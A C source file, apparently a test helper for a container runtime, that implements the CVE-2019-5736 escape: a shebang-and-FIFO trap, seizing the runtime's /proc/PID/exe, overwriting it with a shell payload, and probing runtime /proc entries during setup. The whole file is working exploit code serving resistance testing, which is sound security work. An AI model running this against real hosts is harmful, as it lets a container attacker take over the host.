// SPDX-License-Identifier: Apache-2.0
/* cerberus-exe-attack: the CVE-2019-5736 attack, run by an agent inside a
 * test container against the runtime that enters it. Static, so it needs
 * nothing from the container's root. Every step prints one line, which the
 * tests read:
 *
 *   trap PATH INTERP HOLD   replace PATH with "#!INTERP --log=HOLD" and make
 *                           HOLD a FIFO: whoever runs PATH runs INTERP, and a
 *                           runtime binary run so blocks opening its log.
 *   exe INTERP HOLD SECS PAYLOAD
 *                           wait up to SECS for a process started through the
 *                           trap, hold its /proc/PID/exe (and every fd it has
 *                           open that is the same file), let it go (reading HOLD
 *                           until it has gone), then try
 *                           for 10 s to open the held file for writing and put
 *                           PAYLOAD (a shell line) in it.
 *   setup COMM SECS         wait up to SECS for the next process named COMM (a runtime
 *                           process still setting up) and try to open its
 *                           /proc/PID/{mem,exe,fd,environ} until it execs (2 s at most);
 *                           then the same on a process of our own, the control.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char* err_name(int e)
{
    const char* name = strerrorname_np(e);
    return name ? name : "?";
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int read_small(const char* path, char* buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, buf, size - 1);
    close(fd);
    if (n < 0)
        return -1;
    buf[n] = 0;
    return (int)n;
}

static int trap(const char* path, const char* interp, const char* hold)
{
    char script[512];
    int len = snprintf(script, sizeof script, "#!%s --log=%s\n", interp, hold);
    unlink(path);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd < 0 || write(fd, script, len) != len || close(fd) != 0) {
        printf("trap: errno=%s\n", err_name(errno));
        return 1;
    }
    unlink(hold);
    if (mkfifo(hold, 0600) != 0) {
        printf("trap: mkfifo errno=%s\n", err_name(errno));
        return 1;
    }
    printf("trap: set\n");
    return 0;
}

/* A process started through the trap has INTERP as its argv[0]. */
static pid_t find_trapped(const char* interp)
{
    DIR* proc = opendir("/proc");
    struct dirent* d;
    pid_t found = 0;
    while (proc && (d = readdir(proc)) && !found) {
        pid_t pid = atoi(d->d_name);
        char path[64], cmdline[256];
        if (pid <= 0 || pid == getpid())
            continue;
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        if (read_small(path, cmdline, sizeof cmdline) > 0 && strcmp(cmdline, interp) == 0)
            found = pid;
    }
    if (proc)
        closedir(proc);
    return found;
}

/* Whether the process has exited (a zombie counts: its code no longer runs). */
static int gone(pid_t pid)
{
    char path[64], stat[256];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    if (read_small(path, stat, sizeof stat) <= 0)
        return 1;
    const char* end = strrchr(stat, ')');
    return !end || end[1] == 0 || end[2] == 'Z' || end[2] == 'X';
}

/* Reads the hold FIFO until the trapped process has gone, so that its open
 * for writing succeeds whenever it comes (it may not have got there yet). */
static void release(const char* hold, pid_t pid, double deadline)
{
    int fd = open(hold, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    char buf[512];
    while (fd >= 0 && !gone(pid) && now() < deadline) {
        while (read(fd, buf, sizeof buf) > 0)
            ;
        usleep(10000);
    }
    if (fd >= 0)
        close(fd);
}

/* Tries until the deadline: the file is busy (ETXTBSY) while anything runs it. */
static int overwrite(int held, const char* what, double deadline, const char* payload)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int fd, err;
    do {
        fd = open(path, O_WRONLY | O_CLOEXEC);
        err = errno;
        if (fd >= 0 || err != ETXTBSY)
            break;
        usleep(20000);
    } while (now() < deadline);
    if (fd < 0) {
        printf("write %s: errno=%s\n", what, err_name(err));
        return 1;
    }
    /* Over the start of the file: the kernel then runs it as a script. */
    char script[512];
    int len = snprintf(script, sizeof script, "#!/bin/sh\n%s\nexit 0\n", payload);
    if (write(fd, script, len) != len) {
        printf("write %s: opened, then errno=%s\n", what, err_name(errno));
        close(fd);
        return 1;
    }
    close(fd);
    printf("write %s: ok\n", what);
    return 0;
}

static int attack_exe(const char* interp, const char* hold, int secs, const char* payload)
{
    double deadline = now() + secs;
    pid_t pid = 0;
    while (!(pid = find_trapped(interp)) && now() < deadline)
        usleep(1000);
    if (!pid) {
        printf("exe: no trapped process\n");
        return 1;
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int exe = open(path, O_PATH | O_CLOEXEC);
    struct stat st;
    if (exe < 0 || fstat(exe, &st) != 0) {
        printf("held exe: errno=%s\n", err_name(errno));
        release(hold, pid, deadline);
        return 1;
    }
    printf("held exe: pid=%d size=%lld\n", pid, (long long)st.st_size);
    char target[256] = "";
    if (readlink(path, target, sizeof target - 1) < 0)
        snprintf(target, sizeof target, "errno=%s", err_name(errno));
    printf("exe link: %s\n", target);
    /* The same file may also be open among its fds. */
    int held_fd = -1;
    for (int n = 0; n < 64 && held_fd < 0; ++n) {
        struct stat fst;
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, n);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd >= 0 && fstat(fd, &fst) == 0 && fst.st_dev == st.st_dev && fst.st_ino == st.st_ino)
            held_fd = fd;
        else if (fd >= 0)
            close(fd);
    }
    release(hold, pid, deadline);
    deadline = now() + 10; /* the file is busy until every runtime process running it has gone */
    int rc = overwrite(exe, "exe", deadline, payload);
    if (held_fd >= 0)
        rc |= overwrite(held_fd, "fd", deadline, payload);
    return rc;
}

static const char* const entries[] = {"mem", "exe", "fd", "environ"};
enum { entry_count = 4 };

/* Opens /proc/PID/ENTRY as an attacker would use it; returns errno, 0 when it opened. */
static int try_open(pid_t pid, const char* entry)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, entry);
    if (strcmp(entry, "fd") == 0) {
        /* The directory may list; what matters is whether its links open. */
        DIR* d = opendir(path);
        if (!d)
            return errno;
        int err = ENOENT;
        struct dirent* e;
        while (err && (e = readdir(d))) {
            if (e->d_name[0] == '.')
                continue;
            char link[320];
            snprintf(link, sizeof link, "%s/%s", path, e->d_name);
            int fd = open(link, O_PATH | O_CLOEXEC);
            err = fd < 0 ? errno : 0;
            if (fd >= 0)
                close(fd);
        }
        closedir(d);
        return err;
    }
    int flags = strcmp(entry, "mem") == 0 ? O_RDWR : strcmp(entry, "exe") == 0 ? O_PATH : O_RDONLY;
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0)
        return errno;
    close(fd);
    return 0;
}

static int still_named(pid_t pid, const char* comm)
{
    char path[64], buf[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    size_t len = strlen(comm);
    return read_small(path, buf, sizeof buf) > 0 && strncmp(buf, comm, len) == 0 && buf[len] == '\n';
}

/* Tries every entry again and again while the process still runs under that
 * name (the runtime's code), and reports for each whether it ever opened.
 * Returns how many rounds counted: none when the process moved on first. */
static long try_all(const char* label, pid_t pid, const char* comm, double deadline)
{
    int result[entry_count], round[entry_count];
    long tries = 0;
    do {
        for (int i = 0; i < entry_count; ++i)
            round[i] = tries && result[i] == 0 ? 0 : try_open(pid, entries[i]);
        /* A round counts only if the process still ran the runtime's code after it. */
        if (!still_named(pid, comm))
            break;
        memcpy(result, round, sizeof result);
        ++tries;
    } while (now() < deadline);
    for (int i = 0; tries && i < entry_count; ++i) {
        if (result[i] == 0)
            printf("%s %s: ok (tries=%ld)\n", label, entries[i], tries);
        else
            printf("%s %s: errno=%s (tries=%ld)\n", label, entries[i], err_name(result[i]), tries);
    }
    return tries;
}

/* The next pids of our namespace are polled directly: a runtime process that
 * is setting up for an exec lives for about a millisecond. One that moves on
 * before a whole round of opens is let go, and the next one is waited for. */
static int attack_setup(const char* comm, int secs)
{
    double deadline = now() + secs;
    char buf[64];
    long counted = 0, seen = 0;
    pid_t last_seen = 0;
    while (!counted && now() < deadline) {
        if (read_small("/proc/sys/kernel/ns_last_pid", buf, sizeof buf) <= 0) {
            printf("setup: ns_last_pid errno=%s\n", err_name(errno));
            return 1;
        }
        pid_t last = atoi(buf);
        for (pid_t pid = last; pid <= last + 2 && !counted; ++pid) {
            if (pid == getpid() || pid == last_seen || !still_named(pid, comm))
                continue;
            last_seen = pid;
            ++seen;
            /* Two seconds of tries are plenty: a created init waits for start forever. */
            double until = now() + 2;
            counted = try_all("runtime", pid, comm, until < deadline ? until : deadline);
            if (counted)
                printf("saw %s: pid=%d (the %ld-th seen)\n", comm, pid, seen);
        }
    }
    if (!counted) {
        printf("setup: no %s process held still for a round (%ld seen)\n", comm, seen);
        return 1;
    }

    pid_t own = fork();
    if (own == 0) {
        prctl(PR_SET_NAME, "exe-attack-ctl", 0, 0, 0);
        pause();
        _exit(0);
    }
    while (!still_named(own, "exe-attack-ctl"))
        usleep(1000);
    try_all("control", own, "exe-attack-ctl", 0);
    kill(own, SIGKILL);
    waitpid(own, NULL, 0);
    return 0;
}

int main(int argc, char** argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 5 && strcmp(argv[1], "trap") == 0)
        return trap(argv[2], argv[3], argv[4]);
    if (argc == 6 && strcmp(argv[1], "exe") == 0)
        return attack_exe(argv[2], argv[3], atoi(argv[4]), argv[5]);
    if (argc == 4 && strcmp(argv[1], "setup") == 0)
        return attack_setup(argv[2], atoi(argv[3]));
    fprintf(stderr, "usage: %s trap PATH INTERP HOLD | exe INTERP HOLD SECS PAYLOAD | setup COMM SECS\n", argv[0]);
    return 2;
}
